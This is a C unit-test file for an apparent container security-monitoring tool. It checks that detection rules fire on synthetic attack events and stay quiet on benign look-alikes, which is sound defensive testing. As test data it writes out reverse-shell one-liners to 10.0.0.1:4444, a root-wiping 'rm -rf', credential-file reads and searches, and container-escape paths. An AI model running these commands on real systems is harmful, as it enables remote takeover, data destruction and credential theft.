/*
 * palisade's embedded default rules (rules/palisade_rules.yaml) on synthetic
 * events: every rule fires on its behaviour and stays silent on a near miss
 * (the benign twin a real workload produces), including the evasions of
 * docs/rules.md: busybox applets (comm "exe", argv[0] the applet), commands
 * in a shell's string, paths the kernel resolved, a shell's socket stdio.
 */
#include <errno.h>

#include "event_fixture.h"

#define AGE 60000000000ull /* the process has run a minute */
#define IMG "app:1"

static int setup_default(void **state)
{
	struct rules_config cfg;
	struct rules_engine *e = NULL;

	rules_config_default(&cfg);
	cfg.hostname = "testhost";
	cfg.boot_to_realtime_ns = BOOT_TO_REAL;
	cfg.ancestor = test_ancestor;
	assert_int_equal(rules_engine_new(&cfg, &e), 0);
	assert_int_equal(rules_engine_add_default(e), 0);
	assert_int_equal(rules_engine_compile(e), 0);
	assert_int_equal(rules_engine_cannot_fire_count(e), 0); /* every default rule can fire */
	*state = e;
	return 0;
}

/* A busybox applet started from a busybox shell: comm "exe", argv[0] the
 * applet, the executable /bin/busybox. */
static const struct event *applet(const char *argv, const char *image)
{
	who("/bin/busybox", argv, "sh", NULL, 0, AGE, image);
	snprintf(F.self.comm, sizeof(F.self.comm), "exe");
	return exec_event("/bin/busybox");
}

static const struct event *run(const char *exe, const char *argv, const char *parent,
			       const char *image)
{
	who(exe, argv, parent, NULL, 0, AGE, image);
	return exec_event(exe);
}

static const struct event *open_as(const char *exe, const char *path, uint64_t flags,
				   const char *image)
{
	who(exe, exe, "sh", NULL, 0, AGE, image);
	return openat_ev(path, flags, 0644, 3);
}

static void label(const char *key, const char *value)
{
	static struct container_label l[1];

	l[0].key = (char *)key;
	l[0].value = (char *)value;
	F.ci.labels = l;
	F.ci.n_labels = 1;
}

/* ---- 1. credentials ---- */

static void test_credentials(void **state)
{
	const char *r = "Credential file read in container";
	struct sc_spec s;

	expect(*state, open_as("/bin/sh", "/etc/shadow", O_RDONLY, IMG), r, true);
	expect(*state, open_as("/bin/cat", "/root/.ssh/id_ed25519", O_RDONLY, IMG), r, true);
	expect(*state, open_as("/bin/cat", "/home/a/.aws/credentials", O_RDONLY, IMG), r, true);
	expect(*state, open_as("/bin/cat", "/root/.docker/config.json", O_RDONLY, IMG), r, true);
	/* near misses: a public key, an ordinary file, passwd reading it, the host */
	expect(*state, open_as("/bin/cat", "/root/.ssh/id_ed25519.pub", O_RDONLY, IMG), r, false);
	expect(*state, open_as("/bin/cat", "/etc/hostname", O_RDONLY, IMG), r, false);
	expect(*state, open_as("/usr/bin/passwd", "/etc/shadow", O_RDONLY, IMG), r, false);
	expect(*state, open_as("/bin/cat", "/etc/shadow", O_RDONLY, NULL), r, false);

	r = "Hard link to a credential file in container";
	s = (struct sc_spec){ .sc = "link", .upath = "/etc/shadow", .upath2 = "/tmp/x" };
	who("/bin/ln", "ln /etc/shadow /tmp/x", "sh", NULL, 0, AGE, IMG);
	expect(*state, sc_event(&s), r, true);
	s.upath = "/etc/hostname";
	expect(*state, sc_event(&s), r, false);

	r = "Symlink to a credential file in container";
	s = (struct sc_spec){ .sc = "symlink", .upath = "/etc//shadow", .upath2 = "/tmp/s" };
	expect(*state, sc_event(&s), r, true); /* spelled as Falco's list does not */
	s.upath = "../../etc/./shadow";
	expect(*state, sc_event(&s), r, true);
	s.upath = "/etc/hostname";
	expect(*state, sc_event(&s), r, false);

	r = "Credential search in container";
	expect(*state, applet("find / -name id_rsa", IMG), r, true);
	expect(*state, run("/bin/sh", "sh -c grep -r aws_secret_access_key /app", "runc", IMG), r, true);
	expect(*state, applet("find / -name hostname", IMG), r, false);
	expect(*state, run("/bin/sh", "sh -c echo id_rsa", "runc", IMG), r, false);

	/* The opens no open/openat hook sees (issue 12): openat2 with its struct
	 * open_how read, io_uring's IORING_OP_OPENAT (reported as openat), a
	 * file handle. */
	r = "Credential file read in container";
	who("/evasion", "evasion openat2 /etc/shadow", "sh", NULL, 0, AGE, IMG);
	s = (struct sc_spec){ .sc = "openat2", .res = 3, .a = { AT_CWD, 0x7fff0000, O_RDONLY },
			      .kpath = "/etc/shadow", .path_flags = EV_ARGS_OPEN_HOW };
	expect(*state, sc_event(&s), r, true);
	s.path_flags = 0; /* struct open_how unread: the flags are unknown */
	expect(*state, sc_event(&s), r, false);
	s = (struct sc_spec){ .sc = "openat", .res = 3, .a = { AT_CWD, 0, O_RDONLY },
			      .kpath = "/etc/shadow", .path_flags = EV_ARGS_OPEN_HOW,
			      .hdr_flags = EV_F_IO_URING };
	expect(*state, sc_event(&s), r, true);
	s = (struct sc_spec){ .sc = "open_by_handle_at", .res = 4, .a = { 3, 0x7fff0000, O_RDONLY },
			      .kpath = "/etc/shadow" };
	expect(*state, sc_event(&s), r, true);

	r = "Process environment read in container";
	expect(*state, open_as("/bin/cat", "/proc/1/environ", O_RDONLY, IMG), r, true);
	expect(*state, open_as("/bin/cat", "/proc/1/status", O_RDONLY, IMG), r, false);
}

/* ---- 2. writes ---- */

static void test_writes(void **state)
{
	const char *r = "Write below /etc in container";
	struct sc_spec s;

	expect(*state, open_as("/bin/sh", "/etc/passwd", O_WRONLY | O_APPEND, IMG), r, true);
	s = (struct sc_spec){ .sc = "rename", .upath = "/tmp/p", .upath2 = "/etc/passwd" };
	expect(*state, sc_event(&s), r, true);
	/* near misses: a read; a package manager; a docker build step; the host */
	expect(*state, open_as("/bin/sh", "/etc/passwd", O_RDONLY, IMG), r, false);
	expect(*state, open_as("/sbin/apk", "/etc/passwd", O_WRONLY, IMG), r, false);
	expect(*state, open_as("/bin/sh", "/etc/app.conf", O_WRONLY | O_CREAT, "sha256:0123abcd"), r, false);
	expect(*state, open_as("/bin/sh", "/etc/passwd", O_WRONLY, NULL), r, false);

	r = "Write below binary or library directory in container";
	expect(*state, open_as("/bin/cp", "/usr/bin/ls", O_WRONLY | O_CREAT | O_TRUNC, IMG), r, true);
	expect(*state, open_as("/bin/cp", "/lib/x86_64-linux-gnu/libc.so.6", O_WRONLY, IMG), r, true);
	expect(*state, open_as("/bin/cp", "/usr/local/bin/tool", O_WRONLY | O_CREAT, IMG), r, false);
	expect(*state, open_as("/usr/bin/dpkg", "/usr/bin/ls", O_WRONLY | O_CREAT, IMG), r, false);

	r = "Persistence file written in container";
	expect(*state, open_as("/bin/sh", "/root/.ssh/authorized_keys", O_WRONLY | O_APPEND, IMG), r, true);
	expect(*state, open_as("/bin/sh", "/etc/cron.d/job", O_WRONLY | O_CREAT, IMG), r, true);
	expect(*state, open_as("/bin/sh", "/home/app/.bashrc", O_WRONLY | O_APPEND, IMG), r, true);
	expect(*state, open_as("/bin/sh", "/home/app/notes.txt", O_WRONLY | O_APPEND, IMG), r, false);

	r = "Log file cleared in container";
	expect(*state, open_as("/bin/sh", "/var/log/app.log", O_WRONLY | O_TRUNC, IMG), r, true);
	s = (struct sc_spec){ .sc = "truncate", .upath = "/var/log/app.log" };
	expect(*state, sc_event(&s), r, true);
	expect(*state, open_as("/bin/sh", "/var/log/app.log", O_WRONLY | O_APPEND, IMG), r, false);
	expect(*state, open_as("/usr/sbin/logrotate", "/var/log/app.log", O_WRONLY | O_TRUNC, IMG), r, false);

	r = "Shell history deleted or emptied in container";
	s = (struct sc_spec){ .sc = "unlink", .upath = "/root/.ash_history" };
	expect(*state, sc_event(&s), r, true);
	s.upath = "/root/.profile";
	expect(*state, sc_event(&s), r, false);

	r = "Secure deletion tool run in container";
	expect(*state, applet("shred -u /data/db", IMG), r, true);
	expect(*state, applet("cat /data/db", IMG), r, false);

	r = "Bulk deletion in container";
	expect(*state, run("/bin/rm", "rm -rf /data", "sh", IMG), r, true);
	expect(*state, run("/bin/sh", "sh -c cd / && rm -rf --no-preserve-root / ; echo", "runc", IMG), r, true);
	expect(*state, run("/bin/sh", "sh -c rm -rf /var/lib/apt/lists/*", "runc", IMG), r, false);
	expect(*state, run("/bin/sh", "sh -c mkdir /usr/local/x && rm -rf /build/src", "runc", IMG), r, false);
}

/* ---- 3. drop and execute ---- */

static void test_drop_and_execute(void **state)
{
	const char *r = "Executable dropped in container and run";

	who("/tmp/kworker", "kworker", "sh", NULL, 0, AGE, IMG);
	F.exe_flags = EV_EXE_INFO | EV_EXE_LAYER_KNOWN | EV_EXE_OVERLAY | EV_EXE_UPPER_LAYER;
	expect(*state, exec_event("/opt/kworker"), r, true);
	F.exe_flags = EV_EXE_INFO | EV_EXE_LAYER_KNOWN | EV_EXE_OVERLAY;
	expect(*state, exec_event("/opt/kworker"), r, false); /* the image's own file */
	who("/build/test", "test", "make", NULL, 0, AGE, IMG); /* a test make just built */
	F.exe_flags = EV_EXE_INFO | EV_EXE_LAYER_KNOWN | EV_EXE_OVERLAY | EV_EXE_UPPER_LAYER;
	expect(*state, exec_event("/build/test"), r, false);

	r = "Program run from a temporary directory";
	expect(*state, run("/dev/shm/x", "/dev/shm/x", "sh", IMG), r, true);
	expect(*state, run("/bin/sh", "sh /tmp/run.sh", "sh", IMG), r, true);
	expect(*state, run("/lib64/ld-linux-x86-64.so.2", "/lib64/ld-linux-x86-64.so.2 /dev/shm/x", "sh", IMG), r, true);
	who("/bin/busybox", "./x", "sh", NULL, 0, AGE, IMG); /* cd /dev/shm && ./x */
	snprintf(F.cwd, sizeof(F.cwd), "/dev/shm/");
	expect(*state, exec_event("/bin/busybox"), r, true);
	/* near misses: a program elsewhere; cat of a file in /tmp; sh -c naming /tmp */
	expect(*state, run("/usr/bin/x", "x", "sh", IMG), r, false);
	expect(*state, run("/bin/cat", "cat /tmp/notes", "sh", IMG), r, false);
	expect(*state, run("/bin/sh", "sh -c cat /tmp/notes", "sh", IMG), r, false);

	r = "Fileless execution from memory";
	expect(*state, run("/memfd:payload (deleted)", "x", "sh", IMG), r, true);
	expect(*state, run("/usr/bin/x", "x", "sh", IMG), r, false);
	/* runc's own memfd copy, "runc init", at every docker run and exec (the
	 * host's runc; its exe path is the bare root of a nameless file) */
	who("/", "runc init", "runc", NULL, 0, AGE, NULL);
	snprintf(F.self.comm, sizeof(F.self.comm), "runc");
	expect(*state, exec_event("/"), r, false);
	expect(*state, run("/", "x", "sh", NULL), r, true);
}

/* ---- 4. reverse shells ---- */

static uint32_t stdio(unsigned in, unsigned out, unsigned err)
{
	return EV_EXE_STDIO_KNOWN | in << EV_EXE_STDIO_SHIFT(0) | out << EV_EXE_STDIO_SHIFT(1) |
	       err << EV_EXE_STDIO_SHIFT(2);
}

static void test_reverse_shells(void **state)
{
	const char *r = "Shell with network stdio";

	who("/bin/sh", "sh", "python3", NULL, 0, AGE, IMG);
	F.exe_flags = stdio(EV_STDIO_IPV4, EV_STDIO_IPV4, EV_STDIO_IPV4);
	expect(*state, exec_event("/bin/sh"), r, true);
	assert_non_null(strstr(A.output, "stdin=ipv4 stdout=ipv4"));
	F.exe_flags = stdio(EV_STDIO_PIPE, EV_STDIO_PIPE, EV_STDIO_FILE);
	expect(*state, exec_event("/bin/sh"), r, false);
	/* a server handed its client's socket (inetd, busybox httpd -i) */
	who("/usr/sbin/httpd", "httpd -i", "inetd", NULL, 0, AGE, IMG);
	F.exe_flags = stdio(EV_STDIO_IPV6, EV_STDIO_IPV6, EV_STDIO_FILE);
	expect(*state, exec_event("/usr/sbin/httpd"), r, false);

	r = "Netcat or socat executing a program";
	expect(*state, applet("nc 10.0.0.1 4444 -e /bin/sh", IMG), r, true);
	expect(*state, run("/usr/bin/socat", "socat TCP:10.0.0.1:4444 EXEC:/bin/sh", "sh", NULL), r, true);
	expect(*state, applet("nc -l -p 8080", IMG), r, false);

	r = "Shell spawned by a network tool";
	expect(*state, run("/bin/sh", "sh", "ncat", IMG), r, true);
	expect(*state, run("/bin/sh", "sh", "bash", IMG), r, false);

	r = "Reverse shell command line";
	expect(*state, run("/bin/bash", "bash -c bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "sh", NULL), r, true);
	expect(*state, run("/bin/sh", "sh -c rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f", "sh", NULL), r, true);
	expect(*state, run("/bin/bash", "bash -c echo done", "sh", NULL), r, false);

	r = "Shell spawned by a server process in container";
	expect(*state, run("/bin/sh", "sh -c id", "nginx", IMG), r, true);
	expect(*state, run("/bin/sh", "sh /www/cgi-bin/status.cgi", "httpd", IMG), r, false);
}

/* ---- 5. sockets ---- */

static void test_sockets(void **state)
{
	const char *r = "Raw or packet socket in container";
	struct sc_spec s = { .sc = "socket", .a = { 17 /* AF_PACKET */, SOCK_RAW, 0x300 }, .res = 3 };

	who("/bin/busybox", "arping -I eth0 10.0.0.1", "sh", NULL, 0, AGE, IMG);
	expect(*state, sc_event(&s), r, true);
	s = (struct sc_spec){ .sc = "socket", .a = { AF_INET, SOCK_RAW, IPPROTO_TCP }, .res = 3, .has_sock = true,
			      .sock = inet_sock(AF_INET, SOCK_RAW, IPPROTO_TCP, NULL, 0, NULL, 0) };
	expect(*state, sc_event(&s), r, true);
	/* near misses: ping's ICMP socket, a TCP socket */
	s = (struct sc_spec){ .sc = "socket", .a = { AF_INET, SOCK_RAW, IPPROTO_ICMP }, .res = 3, .has_sock = true,
			      .sock = inet_sock(AF_INET, SOCK_RAW, IPPROTO_ICMP, NULL, 0, NULL, 0) };
	expect(*state, sc_event(&s), r, false);
	s = (struct sc_spec){ .sc = "socket", .a = { AF_INET, SOCK_STREAM, 0 }, .res = 3, .has_sock = true,
			      .sock = TCP4(NULL, 0, NULL, 0) };
	expect(*state, sc_event(&s), r, false);

	r = "Container runtime socket contacted from container";
	s = (struct sc_spec){ .sc = "connect", .a = { 4 }, .has_sock = true };
	s.sock.family = AF_UNIX;
	s.sock.type = SOCK_STREAM;
	{
		uint16_t fam = AF_UNIX;

		memcpy(s.uaddr, &fam, 2);
		memcpy(s.uaddr + 2, "/var/run/docker.sock", 21);
		s.uaddr_len = 23;
	}
	who("/usr/bin/python3", "python3 x.py", "sh", NULL, 0, AGE, IMG);
	expect(*state, sc_event(&s), r, true);
	memcpy(s.uaddr + 2, "/run/app/app.sock\0", 18);
	expect(*state, sc_event(&s), r, false);

	r = "Container runtime client run in container";
	expect(*state, run("/usr/local/bin/docker", "docker ps", "sh", IMG), r, true);
	expect(*state, run("/usr/local/bin/dockerize", "dockerize", "sh", IMG), r, false);
}

/* ---- 6. injection and privilege ---- */

static void test_injection_and_privilege(void **state)
{
	const char *r = "Process attached with ptrace in container";
	struct sc_spec s = { .sc = "ptrace", .a = { 16 /* PTRACE_ATTACH */, 42 } };

	who("/tmp/inject", "inject 42", "sh", NULL, 0, AGE, IMG);
	expect(*state, sc_event(&s), r, true);
	s.a[0] = 0; /* PTRACE_TRACEME: the process itself, not another */
	expect(*state, sc_event(&s), r, false);

	s = (struct sc_spec){ .sc = "process_vm_writev", .a = { 42 } };
	expect(*state, sc_event(&s), "Memory of another process written", true);
	s.sc = "process_vm_readv";
	expect(*state, sc_event(&s), "Memory of another process read in container", true);
	who("/usr/bin/gdb", "gdb -p 42", "sh", NULL, 0, AGE, NULL);
	expect(*state, sc_event(&s), "Memory of another process read in container", false);

	r = "Non-root process setting its uid or gid to root";
	s = (struct sc_spec){ .sc = "setuid", .a = { 0 }, .res = -EPERM };
	who("/tmp/exploit", "exploit", "sh", NULL, 1000, AGE, IMG);
	expect(*state, sc_event(&s), r, true);
	s.a[0] = 1000;
	expect(*state, sc_event(&s), r, false);
	s.a[0] = 0;
	who("/usr/sbin/app", "app", "sh", NULL, 0, AGE, IMG); /* root dropping nothing */
	expect(*state, sc_event(&s), r, false);

	r = "Set-uid or set-gid bit set in container";
	s = (struct sc_spec){ .sc = "fchmodat", .a = { AT_CWD, 0, 04755 }, .upath = "/tmp/rootsh" };
	who("/bin/chmod", "chmod u+s /tmp/rootsh", "sh", NULL, 0, AGE, IMG);
	expect(*state, sc_event(&s), r, true);
	s.a[2] = 0755;
	expect(*state, sc_event(&s), r, false);

	r = "su or sudo run in container";
	expect(*state, applet("su -c id nobody", IMG), r, true);
	expect(*state, run("/usr/bin/summary", "summary", "sh", IMG), r, false);

	r = "Capabilities gained at exec by a non-root process";
	who("/tmp/rootsh", "rootsh", "sh", NULL, 1000, AGE, IMG);
	F.cap_eff = CAPS_DOCKER_DEFAULT; /* a set-uid root file */
	expect(*state, exec_event("/tmp/rootsh"), r, true);
	F.cap_eff = 0;
	expect(*state, exec_event("/tmp/rootsh"), r, false);
}

/* ---- 7. escape ---- */

static void test_escape(void **state)
{
	struct sc_spec s = { .sc = "mount", .res = -EPERM, .upath = "/mnt", .upath2 = "none" };

	who("/bin/busybox", "mount -t tmpfs none /mnt", "sh", NULL, 0, AGE, IMG);
	expect(*state, sc_event(&s), "Mount or unmount in container", true);
	s = (struct sc_spec){ .sc = "unshare", .a = { 0x20000 }, .res = -EPERM };
	expect(*state, sc_event(&s), "Namespace change in container", true);
	s = (struct sc_spec){ .sc = "userfaultfd", .res = 3 };
	expect(*state, sc_event(&s), "userfaultfd in container", true);
	s = (struct sc_spec){ .sc = "bpf", .a = { 5 /* BPF_PROG_LOAD */ }, .res = -EPERM };
	expect(*state, sc_event(&s), "BPF used in container", true);
	s = (struct sc_spec){ .sc = "init_module", .res = -EPERM };
	expect(*state, sc_event(&s), "Kernel module load attempted", true);
	s = (struct sc_spec){ .sc = "io_uring_setup", .a = { 4, 0x7fff0000 }, .res = 3 };
	expect(*state, sc_event(&s), "io_uring used in container", true);
	s.res = -EPERM; /* refused by seccomp: a runtime probing for it */
	expect(*state, sc_event(&s), "io_uring used in container", false);
	s = (struct sc_spec){ .sc = "open_by_handle_at", .res = 4, .a = { 3, 0x7fff0000, O_RDONLY },
			      .kpath = "/var/lib/docker/containers/x/hosts" };
	expect(*state, sc_event(&s), "File opened by handle in container", true);
	s.res = -ESTALE;
	s.kpath = NULL;
	expect(*state, sc_event(&s), "File opened by handle in container", false);
	/* near misses: the same calls on the host (modules: by the package manager) */
	who("/bin/mount", "mount /dev/sdb1 /data", "sh", NULL, 0, AGE, NULL);
	s = (struct sc_spec){ .sc = "mount", .upath = "/data", .upath2 = "/dev/sdb1" };
	expect(*state, sc_event(&s), "Mount or unmount in container", false);
	s = (struct sc_spec){ .sc = "bpf", .a = { 5 } };
	expect(*state, sc_event(&s), "BPF used in container", false);
	s = (struct sc_spec){ .sc = "io_uring_setup", .a = { 4, 0x7fff0000 }, .res = 3 };
	expect(*state, sc_event(&s), "io_uring used in container", false);
	who("/sbin/modprobe", "modprobe nf_tables", "apt-get", NULL, 0, AGE, NULL);
	s = (struct sc_spec){ .sc = "finit_module", .a = { 3 } };
	expect(*state, sc_event(&s), "Kernel module load attempted", false);
	/* runc setting a container up is not the container's doing */
	who("/usr/bin/runc", "runc init", "containerd-shim", NULL, 0, AGE, IMG);
	snprintf(F.self.comm, sizeof(F.self.comm), "runc:[1:CHILD]");
	F.self.vpid = F.self.pid;
	s = (struct sc_spec){ .sc = "mount", .upath = "/proc", .upath2 = "proc" };
	expect(*state, sc_event(&s), "Mount or unmount in container", false);

	expect(*state, applet("nsenter -t 1 -m sh", IMG), "Namespace tool run in container", true);
	expect(*state, applet("nslookup example.com", IMG), "Namespace tool run in container", false);

	{
		const char *r = "Cgroup release_agent or notify_on_release written";
		struct sc_spec o = { .sc = "openat", .res = 3, .a = { AT_CWD, 0, O_WRONLY | O_TRUNC },
				     .kpath = "/tmp/cg/release_agent", .raw1 = "release_agent" };

		who("/bin/sh", "sh", "sh", NULL, 0, AGE, IMG);
		expect(*state, sc_event(&o), r, true); /* cd /tmp/cg && echo ... > release_agent */
		o.a[2] = O_RDONLY;
		expect(*state, sc_event(&o), r, false);
		o = (struct sc_spec){ .sc = "symlink", .upath = "/tmp/cg/release_agent", .upath2 = "/tmp/x" };
		expect(*state, sc_event(&o), r, true); /* the way round the kernel's gate */
	}
	expect(*state, open_as("/bin/sh", "/proc/sys/kernel/core_pattern", O_WRONLY | O_TRUNC, IMG),
	       "Kernel core_pattern written", true);
	expect(*state, open_as("/bin/sh", "/proc/sys/kernel/core_pattern", O_RDONLY, IMG),
	       "Kernel core_pattern written", false);
	expect(*state, open_as("/bin/sh", "/proc/sys/vm/drop_caches", O_WRONLY | O_TRUNC, IMG),
	       "Write to /proc/sys or /sys in container", true);
	expect(*state, open_as("/bin/sh", "/sys/fs/cgroup/cpu.max", O_WRONLY, IMG),
	       "Write to /proc/sys or /sys in container", false);
}

/* A container's first process, with the Docker socket mounted or without. */
static void test_sensitive_mount_start(void **state)
{
	const char *r = "Container started with the runtime socket or a host system path mounted";
	static struct container_mount sock = { "/var/run/docker.sock", "/var/run/docker.sock", "",
					       "rprivate", true };
	static struct container_mount data = { "/srv/data", "/data", "", "rprivate", true };

	who("/app/server", "server", "containerd-shim", NULL, 0, AGE, IMG);
	F.self.vpid = 1;
	F.ci.ip = "";
	F.ci.health_argv = "";
	F.ci.mounts = &sock;
	F.ci.n_mounts = 1;
	expect(*state, exec_event("/app/server"), r, true);
	F.ci.mounts = &data;
	expect(*state, exec_event("/app/server"), r, false);
	F.ci.mounts = NULL;
	F.ci.n_mounts = 0;
	expect(*state, exec_event("/app/server"), r, false);
}

/* ---- 8. miners and scanners ---- */

static void test_miners_and_scanners(void **state)
{
	expect(*state, run("/tmp/xmrig", "xmrig -o pool:3333", "sh", NULL), "Crypto miner started", true);
	expect(*state, run("/tmp/kworker", "kworker -o stratum+tcp://pool.example:3333 -u w", "sh", NULL),
	       "Crypto miner started", true);
	expect(*state, run("/usr/bin/xmllint", "xmllint a.xml", "sh", NULL), "Crypto miner started", false);
	expect(*state, run("/usr/bin/nmap", "nmap -sS 10.0.0.0/24", "sh", IMG), "Network scanner run in container", true);
	expect(*state, run("/usr/bin/nmcli", "nmcli dev", "sh", IMG), "Network scanner run in container", false);
}

/* ---- 9. a shell in a running container ---- */

static void test_shell_in_running_container(void **state)
{
	const char *r = "Shell started in a running container";

	expect(*state, run("/bin/sh", "sh", "runc", IMG), r, true);
	who("/bin/sh", "sh -c true", "containerd-shim", NULL, 0, AGE, IMG);
	F.self.vpid = 7;
	F.self.tty = 34816;
	expect(*state, exec_event("/bin/sh"), r, true);
	/* near misses: the entry point; a debug container; an allow-listed probe */
	F.self.vpid = 1;
	expect(*state, exec_event("/bin/sh"), r, false);
	F.self.vpid = 7;
	label("palisade.debug", "true");
	expect(*state, exec_event("/bin/sh"), r, false);
	label("palisade.allow-exec", "sh -c true");
	expect(*state, exec_event("/bin/sh"), r, false);
	label("palisade.allow-exec", "sh -c other");
	expect(*state, exec_event("/bin/sh"), r, true);
	expect(*state, run("/bin/sh", "sh", "runc", "tools:debug"), r, false);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_credentials),
		cmocka_unit_test(test_writes),
		cmocka_unit_test(test_drop_and_execute),
		cmocka_unit_test(test_reverse_shells),
		cmocka_unit_test(test_sockets),
		cmocka_unit_test(test_injection_and_privilege),
		cmocka_unit_test(test_escape),
		cmocka_unit_test(test_sensitive_mount_start),
		cmocka_unit_test(test_miners_and_scanners),
		cmocka_unit_test(test_shell_in_running_container),
	};

	return cmocka_run_group_tests_name("default rules", tests, setup_default, teardown);
}
